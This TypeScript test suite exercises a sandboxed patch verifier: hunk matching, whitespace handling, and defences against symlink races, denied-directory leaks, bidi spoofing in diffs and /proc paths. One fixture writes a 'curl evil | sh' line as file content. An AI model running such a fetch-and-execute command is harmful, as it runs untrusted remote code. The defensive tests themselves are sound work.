import { execFileSync, spawnSync } from 'node:child_process'
import { linkSync, mkdirSync, readFileSync, renameSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterAll, describe, expect, it } from 'vitest'
import { PatchVerifyError } from '../../../../src/tools/apply-patch/errors.js'
import { parsePatch } from '../../../../src/tools/apply-patch/parser.js'
import { MAX_FILE_BYTES, MAX_PATCH_READ_BYTES, MAX_PATCH_READ_LINES, verifyPatch, type PatchPlan } from '../../../../src/tools/apply-patch/verify.js'
import { removeTempDirs, tempDir } from '../../../helpers/temp.js'
import { repoRoot } from '../../../helpers/paths.js'
import { itWhere, unless } from '../../../helpers/requirements.js'

afterAll(removeTempDirs)

const patch = (...lines: string[]) => parsePatch(`*** Begin Patch\n${lines.join('\n')}\n*** End Patch\n`)

function workspace(files: Record<string, string>): string {
  const dir = tempDir('patch-verify-')
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(join(dir, name, '..'), { recursive: true })
    writeFileSync(join(dir, name), text)
  }
  return dir
}

async function plan(files: Record<string, string>, ...lines: string[]): Promise<{ dir: string; plan: PatchPlan }> {
  const dir = workspace(files)
  return { dir, plan: await verifyPatch(patch(...lines), { cwd: dir }) }
}

async function failure(files: Record<string, string>, ...lines: string[]): Promise<PatchVerifyError> {
  const dir = workspace(files)
  const e = await verifyPatch(patch(...lines), { cwd: dir }).then(
    () => undefined,
    (x: unknown) => x,
  )
  expect(e).toBeInstanceOf(PatchVerifyError)
  return e as PatchVerifyError
}

const src = ['a', 'b', 'c', 'd', 'e', 'f'].join('\n') + '\n'

describe('verifyPatch', () => {
  it('plans an update: new text, a unified diff with the file own context, the digest of the old text; nothing is written', async () => {
    const { dir, plan: p } = await plan({ 'x.txt': src }, '*** Update File: x.txt', '@@', ' b', '-c', '+C', ' d')
    const c = p.changes[0]!
    expect(c).toMatchObject({ kind: 'update', path: 'x.txt', resolved: join(dir, 'x.txt'), oldText: src, newText: 'a\nb\nC\nd\ne\nf\n', levels: ['exact'] })
    expect(c.oldSha256).toMatch(/^[0-9a-f]{64}$/)
    expect(c.diff).toBe('--- a/x.txt\n+++ b/x.txt\n@@ -2,3 +2,3 @@\n b\n-c\n+C\n d\n')
    expect(readFileSync(join(dir, 'x.txt'), 'utf8')).toBe(src)
    expect(p.paths).toEqual([join(dir, 'x.txt')])
  })

  it('applies hunks in order, each after the previous one, and shifts new line numbers', async () => {
    const { plan: p } = await plan({ 'x': src }, '*** Update File: x', '@@', ' a', '+a2', ' b', '@@', '-e', ' f')
    expect(p.changes[0]!.newText).toBe('a\na2\nb\nc\nd\nf\n')
    expect(p.changes[0]!.hunks.map((h) => [h.oldStart, h.oldLines, h.newStart, h.newLines])).toEqual([
      [1, 2, 1, 3],
      [5, 2, 6, 1],
    ])
  })

  it('refuses a hunk that comes before the previous one', async () => {
    const e = await failure({ x: src }, '*** Update File: x', '@@', ' e', '+e2', '@@', ' b', '+b2')
    expect(e).toMatchObject({ kind: 'context', line: 6 })
    expect(e.message).toContain('after line 5')
  })

  it('reports ambiguous context with the file lines, and an @@ header settles it', async () => {
    const files = { x: 'f() {\n  return 1\n}\ng() {\n  return 1\n}\n' }
    const e = await failure(files, '*** Update File: x', '@@', '-  return 1', '+  return 2')
    expect(e).toMatchObject({ kind: 'ambiguous', line: 3, candidates: [2, 5] })
    const { plan: p } = await plan(files, '*** Update File: x', '@@ g() {', '-  return 1', '+  return 2')
    expect(p.changes[0]!.newText).toBe('f() {\n  return 1\n}\ng() {\n  return 2\n}\n')
  })

  it('walks the tolerance ladder: exact, then trailing whitespace, then all surrounding whitespace; context keeps the file text', async () => {
    const files = { x: 'one  \n\ttwo\nthree\n' }
    const trailing = await plan(files, '*** Update File: x', '@@', ' one', '-\ttwo', '+2')
    expect(trailing.plan.changes[0]).toMatchObject({ newText: 'one  \n2\nthree\n', levels: ['trailing-whitespace'] })
    const around = await plan(files, '*** Update File: x', '@@', ' one', '-two', '+2')
    expect(around.plan.changes[0]).toMatchObject({ newText: 'one  \n2\nthree\n', levels: ['whitespace'] })
    const exact = await plan(files, '*** Update File: x', '@@', ' one  ', '-\ttwo', '+2')
    expect(exact.plan.changes[0]!.levels).toEqual(['exact'])
  })

  it('prefers an exact match over a looser one elsewhere (no ambiguity across rungs)', async () => {
    const { plan: p } = await plan({ x: ' x\nx\n' }, '*** Update File: x', '@@', '-x', '+y')
    expect(p.changes[0]!.newText).toBe(' x\ny\n')
  })

  it('anchors an end-of-file hunk at the end, and appends a hunk of only added lines', async () => {
    const { plan: p } = await plan({ x: 'a\nb\na\n' }, '*** Update File: x', '@@', '-a', '+z', '*** End of File')
    expect(p.changes[0]!.newText).toBe('a\nb\nz\n')
    const add = await plan({ x: 'a\n' }, '*** Update File: x', '@@', '+b')
    expect(add.plan.changes[0]!.newText).toBe('a\nb\n')
    const after = await plan({ x: 'a\nb\n' }, '*** Update File: x', '@@ a', '+a2')
    expect(after.plan.changes[0]!.newText).toBe('a\na2\nb\n')
  })

  it('drops a trailing blank context line that matches nowhere', async () => {
    const { plan: p } = await plan({ x: 'a\nb' }, '*** Update File: x', '@@', '-b', '+c', ' ')
    expect(p.changes[0]!.newText).toBe('a\nc')
  })

  it('keeps CRLF line endings and a missing final newline', async () => {
    const crlf = await plan({ x: 'a\r\nb\r\n' }, '*** Update File: x', '@@', '-b', '+c')
    expect(crlf.plan.changes[0]!.newText).toBe('a\r\nc\r\n')
    const bare = await plan({ x: 'a\nb' }, '*** Update File: x', '@@', ' a', '+m')
    expect(bare.plan.changes[0]!.newText).toBe('a\nm\nb')
  })

  it('plans add, delete and move, naming both ends of a move', async () => {
    const { dir, plan: p } = await plan({ old: 'x\ny\n', gone: 'bye\n' }, '*** Add File: sub/new', '+hi', '*** Delete File: gone', '*** Update File: old', '*** Move to: moved/old', '@@', '-y', '+z')
    expect(p.changes.map((c) => c.kind)).toEqual(['add', 'delete', 'update'])
    expect(p.changes[0]).toMatchObject({ newText: 'hi\n', diff: '--- /dev/null\n+++ b/sub/new\n@@ -0,0 +1,1 @@\n+hi\n' })
    expect(p.changes[1]).toMatchObject({ oldText: 'bye\n', diff: '--- a/gone\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-bye\n' })
    expect(p.changes[2]).toMatchObject({ moveTo: { path: 'moved/old', resolved: join(dir, 'moved/old') }, newText: 'x\nz\n' })
    expect(p.paths).toEqual([join(dir, 'sub/new'), join(dir, 'gone'), join(dir, 'old'), join(dir, 'moved/old')])
  })

  it.each([
    ['an update of a missing file', {}, ['*** Update File: nope', '@@', '+x'], 'missing', 'does not exist'],
    ['a delete of a directory', { 'd/f': '' }, ['*** Delete File: d'], 'missing', 'is not a regular file'],
    ['an add over an existing file', { a: '' }, ['*** Add File: a', '+x'], 'exists', 'exists already'],
    ['a move onto an existing file', { a: 'x\n', b: '' }, ['*** Update File: a', '*** Move to: b'], 'exists', 'exists already'],
    ['a file touched twice', { a: 'x\n' }, ['*** Update File: a', '@@', '+y', '*** Delete File: ./a'], 'duplicate', 'already touches this file at line 2'],
    ['a move onto a file the patch also adds', { a: 'x\n' }, ['*** Add File: b', '+1', '*** Update File: a', '*** Move to: b'], 'duplicate', 'already touches'],
    ['context that is not there', { a: 'x\n' }, ['*** Update File: a', '@@', ' y', '+z'], 'context', 'are not in the file after line 0'],
    ['a header that is not there', { a: 'x\n' }, ['*** Update File: a', '@@ nope', '+z'], 'context', 'the @@ line "nope" is not in the file'],
  ] as const)('refuses %s', async (_n, files, lines, kind, text) => {
    const e = await failure({ ...files }, ...lines)
    expect(e.kind).toBe(kind)
    expect(e.message).toContain(text)
    expect(e.message).toMatch(/^patch line \d+: /)
  })

  it('refuses a file that is not UTF-8 text (rewriting it would change bytes the patch does not mention)', async () => {
    const dir = workspace({})
    writeFileSync(join(dir, 'a'), Buffer.from([0x61, 0x0a, 0xff, 0xfe, 0x0a]))
    const e = await verifyPatch(patch('*** Update File: a', '@@', '-a', '+b'), { cwd: dir }).catch((x: unknown) => x)
    expect(e).toMatchObject({ kind: 'unreadable', message: expect.stringContaining('is not UTF-8 text') })
  })

  it('refuses a file the sandbox would not let a command read, before reading it', async () => {
    const dir = workspace({ 'secret/key': 'k\n' })
    const asked: string[] = []
    const e = await verifyPatch(patch('*** Update File: secret/key', '@@', '-k', '+x'), {
      cwd: dir,
      unreadable: (p) => (asked.push(p), p.includes('/secret/') ? 'deny-read' : undefined),
    }).catch((x: unknown) => x)
    expect(e).toMatchObject({ kind: 'unreadable', message: expect.stringContaining('does not let commands read it (deny-read)') })
    expect(asked).toEqual([join(dir, 'secret/key')])
  })

  it('never tells whether a file exists in a directory commands may not read: an add or move target there is refused unseen', async () => {
    const dir = workspace({ 'secret/present': 'k\n', 'a.txt': 'a\n' })
    const unreadable = (p: string) => (p.startsWith(join(dir, 'secret')) ? 'deny-read' : undefined)
    const outcome = (...lines: string[]) =>
      verifyPatch(patch(...lines), { cwd: dir, unreadable }).then(
        () => 'planned',
        (e: PatchVerifyError) => `${e.kind}: ${e.message.replace(/^patch line \d+: /, '')}`,
      )
    // The same answer whether the file is there or not (today: "exists already" tells it is).
    const present = await outcome('*** Add File: secret/present', '+x')
    const absent = await outcome('*** Add File: secret/absent', '+x')
    expect(present).toBe('unreadable: secret/present: the sandbox does not let commands read it (deny-read)')
    expect(absent).toBe('unreadable: secret/absent: the sandbox does not let commands read it (deny-read)')
    expect(await outcome('*** Update File: a.txt', '*** Move to: secret/present')).toBe('unreadable: secret/present: the sandbox does not let commands read it (deny-read)')
    expect(await outcome('*** Update File: a.txt', '*** Move to: secret/absent')).toBe('unreadable: secret/absent: the sandbox does not let commands read it (deny-read)')
  })

  it('checks a path as written before following a symlink inside a denied directory (which would tell where the link points)', async () => {
    const dir = workspace({ 'pub/f': 'a\n' })
    mkdirSync(join(dir, 'secret'))
    symlinkSync(join(dir, 'pub'), join(dir, 'secret/link'))
    const unreadable = (p: string) => (p.startsWith(join(dir, 'secret')) ? 'deny-read' : undefined)
    const e = await verifyPatch(patch('*** Update File: secret/link/f', '@@', '-a', '+b'), { cwd: dir, unreadable }).catch((x: unknown) => x)
    expect(e).toMatchObject({ kind: 'unreadable', path: 'secret/link/f', resolved: join(dir, 'secret/link/f') })
    expect(readFileSync(join(dir, 'pub/f'), 'utf8')).toBe('a\n')
  })

  it('refuses a file over the size bound before reading it, and a FIFO without blocking', async () => {
    const dir = workspace({})
    const big = join(dir, 'big.txt')
    writeFileSync(big, '')
    truncateSync(big, MAX_FILE_BYTES + 1)
    const e = await verifyPatch(patch('*** Update File: big.txt', '@@', '+x'), { cwd: dir }).catch((x: unknown) => x)
    expect(e).toMatchObject({ kind: 'unreadable', message: expect.stringContaining(`more than the ${MAX_FILE_BYTES} a patch edits`) })
    execFileSync('mkfifo', [join(dir, 'pipe')])
    const f = await verifyPatch(patch('*** Delete File: pipe'), { cwd: dir }).catch((x: unknown) => x)
    expect(f).toMatchObject({ kind: 'missing', message: expect.stringContaining('is not a regular file') })
  })

  it('shows the file\'s own control and bidi characters escaped in the diff (a removed line cannot pose as another), and writes the text exact', async () => {
    const hidden = 'if (!admin) deny()\r// harmless comment'
    const { plan: p } = await plan({ 'f.js': `keep\n${hidden}\n\u202eevil\n` }, '*** Update File: f.js', '@@', ' keep', `-${hidden}`, '+ok', ' \u202eevil')
    const diff = p.changes[0]!.diff
    expect(diff).not.toMatch(/[\r\u001b\u202e]/)
    expect(diff).toContain('-if (!admin) deny()\\x0d// harmless comment')
    expect(diff).toContain(' \\u202eevil')
    expect(p.changes[0]!.newText).toBe('keep\nok\n\u202eevil\n')
    const del = await plan({ 'g.txt': 'a\u001b[2Kb\n' }, '*** Delete File: g.txt')
    expect(del.plan.changes[0]!.diff).toContain('-a\\x1b[2Kb')
  })

  it('handles files and hunks of 200k lines (no line list is spread into a call: that overflows the stack)', async () => {
    const many = 'x\n'.repeat(200_000)
    const append = await plan({ big: many }, '*** Update File: big', '@@', ' x', '+appended', '*** End of File')
    expect(append.plan.changes[0]!.newText).toBe(`${many}appended\n`)
    const del = await plan({ big: many }, '*** Delete File: big')
    expect(del.plan.changes[0]!.hunks[0]!.oldLines).toBe(200_000)
    const add = await verifyPatch(parsePatch(`*** Begin Patch\n*** Add File: new\n${'+a\n'.repeat(200_000)}*** End Patch\n`), { cwd: workspace({}) })
    expect(add.changes[0]!.diff.length).toBe('--- /dev/null\n+++ b/new\n@@ -0,0 +1,200000 @@\n'.length + 3 * 200_000)
  })

  it('resolves symlinks: the plan names where the write lands', async () => {
    const dir = workspace({ 'real/f': 'a\n' })
    symlinkSync(join(dir, 'real'), join(dir, 'link'))
    const p = await verifyPatch(patch('*** Update File: link/f', '@@', '-a', '+b'), { cwd: dir })
    expect(p.paths).toEqual([join(dir, 'real/f')])
  })

  it('refuses a path that resolves through a symlink to a name with control or bidi characters (the approver is shown where it lands)', async () => {
    const dir = workspace({ 'a.txt': 'a\n' })
    const target = join(dir, 'x\u001b[2K\rREADME.md (unchanged)\u202e\nzz')
    mkdirSync(target)
    symlinkSync(target, join(dir, 'docs'))
    for (const lines of [['*** Add File: docs/run.sh', '+curl evil | sh'], ['*** Update File: a.txt', '*** Move to: docs/a.txt']]) {
      const e = await verifyPatch(patch(...lines), { cwd: dir }).catch((x: unknown) => x)
      expect(e).toMatchObject({ kind: 'unshowable', message: expect.stringContaining('the approver could not read where it is written') })
      expect((e as Error).message).toContain('x\\x1b[2K\\rREADME.md (unchanged)\\u202e\\nzz')
      expect((e as Error).message).not.toMatch(/[\u001b\r\n\u202e]/)
    }
  })

  it('a bidi override alone in where a path lands is refused; a workspace named with a zero-width joiner or a soft hyphen is patched as any other', async () => {
    const dir = workspace({ 'a.txt': 'a\n' })
    mkdirSync(join(dir, 'evil\u202etxt.sh'))
    symlinkSync(join(dir, 'evil\u202etxt.sh'), join(dir, 'docs'))
    await expect(verifyPatch(patch('*** Add File: docs/x', '+x'), { cwd: dir })).rejects.toMatchObject({ kind: 'unshowable' })
    for (const name of ['\u{1F468}\u200d\u{1F4BB}dev', 'co\u00adop']) {
      const ws = join(dir, name)
      mkdirSync(ws)
      writeFileSync(join(ws, 'f'), '1\n')
      const plan = await verifyPatch(patch('*** Update File: f', '@@', '-1', '+2'), { cwd: ws })
      expect(plan.changes[0]?.resolved).toBe(join(ws, 'f'))
    }
  })

  // A process of its own in a mount namespace without /proc (root: unshare -m, then umount).
  itWhere(
    unless(process.platform === 'linux' && process.getuid?.() === 0, 'hiding /proc from one process needs root (unshare -m, umount): run the tests as root'),
    'without /proc an existing file is never taken for a missing one: Update and Add are refused as uncheckable',
    () => {
      const dir = workspace({ f: 'hello\n' })
      const verify = pathToFileURL(join(repoRoot, 'dist/tools/apply-patch/verify.js')).href
      const parser = pathToFileURL(join(repoRoot, 'dist/tools/apply-patch/parser.js')).href
      const script = `
        const { verifyPatch } = await import(${JSON.stringify(verify)}); const { parsePatch } = await import(${JSON.stringify(parser)})
        for (const body of ['*** Update File: f\\n@@\\n-hello\\n+bye', '*** Add File: f\\n+new'])
          console.log(await verifyPatch(parsePatch('*** Begin Patch\\n' + body + '\\n*** End Patch\\n'), { cwd: ${JSON.stringify(dir)} }).then(() => 'planned', (e) => e.kind + ': ' + e.message))`
      const r = spawnSync('unshare', ['-m', '--propagation', 'private', 'sh', '-c', 'umount -l /proc && exec "$0" --input-type=module -e "$1"', process.execPath, script], { encoding: 'utf8' })
      expect(r.stderr).toBe('')
      const lines = r.stdout.trim().split('\n')
      expect(lines).toHaveLength(2)
      for (const l of lines) expect(l).toMatch(/^unreadable: .*\/proc is not mounted/)
    },
  )

  it('refuses paths in /proc, /sys and /dev: /proc/self/environ would be the caller\'s own environment', async () => {
    const dir = workspace({ 'a.txt': 'a\n' })
    for (const p of ['/proc/self/environ', '/sys/kernel/hostname', '/dev/null']) {
      await expect(verifyPatch(patch(`*** Delete File: ${p}`), { cwd: dir })).rejects.toMatchObject({ kind: 'unreadable', message: expect.stringContaining('kernel filesystem') })
    }
  })

  it('refuses two names of one file (hard links): a patch reads each file once', async () => {
    const dir = workspace({ h1: 'x\n' })
    linkSync(join(dir, 'h1'), join(dir, 'h2'))
    const e = await verifyPatch(patch('*** Delete File: h1', '*** Delete File: h2'), { cwd: dir }).catch((x: unknown) => x)
    expect(e).toMatchObject({ kind: 'duplicate', path: 'h2', line: 3, message: 'patch line 3: h2: is the same file as h1 (patch line 2), a hard link: give each file once' })
  })

  it('bounds what one patch reads in all, bytes and lines, before reading past it', async () => {
    const dir = workspace({})
    const files = Math.floor(MAX_PATCH_READ_BYTES / MAX_FILE_BYTES) + 1
    for (let i = 0; i < files; i++) writeFileSync(join(dir, `f${i}`), Buffer.alloc(MAX_FILE_BYTES, 'a'))
    const deletes = Array.from({ length: files }, (_, i) => `*** Delete File: f${i}`)
    const e = await verifyPatch(patch(...deletes), { cwd: dir }).catch((x: unknown) => x)
    expect(e).toMatchObject({ kind: 'unreadable', path: `f${files - 1}`, message: expect.stringContaining(`more than the ${MAX_PATCH_READ_BYTES} bytes one patch may`) })
    writeFileSync(join(dir, 'lines'), '\n'.repeat(MAX_PATCH_READ_LINES + 1))
    const l = await verifyPatch(patch('*** Delete File: lines'), { cwd: dir }).catch((x: unknown) => x)
    expect(l).toMatchObject({ kind: 'unreadable', message: expect.stringContaining(`more than the ${MAX_PATCH_READ_LINES} lines one patch may`) })
  })
})

/**
 * A command still running in the sandbox can swap a symlink into a path
 * between its canonicalisation (and readability check) and the open. The
 * swap is made deterministic here: the readability check of the canonical
 * path — the last step before the file is opened — makes it.
 */
describe.runIf(process.platform === 'linux')('verifyPatch when a symlink is swapped in after the path was checked', () => {
  const SECRET = 'header\nTOPSECRET-LINE-42\nfooter\n'

  /** A workspace `ws` beside a denied `secret` holding `key`, and an `unreadable` that calls `swap` at the check of `path` as canonical. */
  function swapped(path: string, swap: (dir: string) => void) {
    const dir = workspace({ 'secret/key': SECRET })
    mkdirSync(join(dir, 'ws'))
    const secret = join(dir, 'secret')
    let checks = 0
    const unreadable = (p: string) => {
      if (p.startsWith(secret)) return 'deny-read'
      // The first check is of the path as written, the second of where it resolves (locate()).
      if (p === join(dir, 'ws', path) && ++checks === 2) swap(dir)
      return undefined
    }
    return { dir, ws: join(dir, 'ws'), secret, unreadable }
  }

  const outcome = (lines: string[], cwd: string, unreadable: (p: string) => string | undefined) =>
    verifyPatch(patch(...lines), { cwd, unreadable }).then(
      (p) => `planned: ${p.changes.map((c) => c.diff).join('')}`,
      (e: PatchVerifyError) => `${e.kind}: ${e.message}`,
    )

  it('the file itself: a delete never shows (and an update never matches) the denied file', async () => {
    const t = swapped('f', (dir) => {
      symlinkSync(join(dir, 'secret/key'), join(dir, 'ws/l.tmp'))
      renameSync(join(dir, 'ws/l.tmp'), join(dir, 'ws/f'))
    })
    writeFileSync(join(t.ws, 'f'), 'decoy\n')
    const r = await outcome(['*** Delete File: f'], t.ws, t.unreadable)
    expect(r).not.toContain('TOPSECRET')
    expect(r).toBe('changed: patch line 2: f: a symbolic link is on its path now (it changed while the patch was verified, or leads nowhere): nothing was read; try again once nothing changes it')
  })

  it('a parent directory: the file is not read through a symlink swapped in for it', async () => {
    const t = swapped('d/key', (dir) => {
      renameSync(join(dir, 'ws/d'), join(dir, 'ws/d.old'))
      symlinkSync(join(dir, 'secret'), join(dir, 'ws/d'))
    })
    mkdirSync(join(t.ws, 'd'))
    writeFileSync(join(t.ws, 'd/key'), 'decoy\n')
    const r = await outcome(['*** Update File: d/key', '@@', '-TOPSECRET-LINE-42', '+x'], t.ws, t.unreadable)
    expect(r).toMatch(/^changed: patch line 2: d\/key: a symbolic link is on its path now/)
  })

  it('an add target: whether a file exists in the denied directory is not told', async () => {
    const answers: string[] = []
    for (const name of ['key', 'absent']) {
      const t = swapped(`d/${name}`, (dir) => {
        renameSync(join(dir, 'ws/d'), join(dir, 'ws/d.old'))
        symlinkSync(join(dir, 'secret'), join(dir, 'ws/d'))
      })
      mkdirSync(join(t.ws, 'd'))
      answers.push((await outcome([`*** Add File: d/${name}`, '+x'], t.ws, t.unreadable)).replace(name, 'NAME'))
    }
    expect(answers[0]).toMatch(/^changed: /)
    expect(answers[1]).toBe(answers[0])
  })

  it('an add target swapped for a symlink exists, wherever the link leads', async () => {
    const answers: string[] = []
    for (const name of ['key', 'absent']) {
      const t = swapped('new', (dir) => symlinkSync(join(dir, 'secret', name), join(dir, 'ws/new')))
      answers.push(await outcome(['*** Add File: new', '+x'], t.ws, t.unreadable))
    }
    expect(answers).toEqual(['exists: patch line 2: new: exists already: update it instead of adding it (or delete it first)', 'exists: patch line 2: new: exists already: update it instead of adding it (or delete it first)'])
  })
})
